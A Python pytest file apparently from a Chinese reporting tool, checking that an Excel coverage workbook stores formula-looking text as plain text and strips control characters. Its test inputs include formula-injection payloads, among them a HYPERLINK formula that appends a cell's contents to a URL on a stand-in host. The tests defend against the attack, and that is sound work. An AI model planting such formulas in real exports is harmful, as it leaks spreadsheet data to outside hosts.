"""The 对标对表 workbook keeps every typed text as text."""

import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from luoshi.reports.coverage import write_coverage

FORMULAS = ['=HYPERLINK("http://x.example/?"&A3,"详情")', "+1+1", "-2+3", "@SUM(A1:A2)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    """A task title, a requirement's text or a reason typed as ``=HYPERLINK(…)`` is no formula in the
    reader's Excel (formula injection): every string cell is a string, the title's too."""
    row = [1, text, text, "未覆盖", text, text, "干部一科", "红", "50%", dt.date(2026, 3, 1)]
    data = write_coverage([row], text, dt.datetime(2026, 3, 1, 9, 0))
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws["A1"].data_type == "s" and ws["A1"].value == text
    for column in "BCEF":
        assert ws[f"{column}4"].data_type == "s" and ws[f"{column}4"].value == text
    assert ws["J4"].is_date and ws["A4"].value == 1


def test_text_with_a_control_character_is_written_without_it():
    """openpyxl refuses the control characters XML forbids; a title typed with one is written without."""
    row = [1, "任务\x0b名称", "要求\x00", "未覆盖", "", "", "干部一科", "红", "50%", dt.date(2026, 3, 1)]
    data = write_coverage([row], "对标\x0c对表", dt.datetime(2026, 3, 1, 9, 0))
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert (ws["A1"].value, ws["B4"].value, ws["C4"].value) == ("对标对表", "任务名称", "要求")
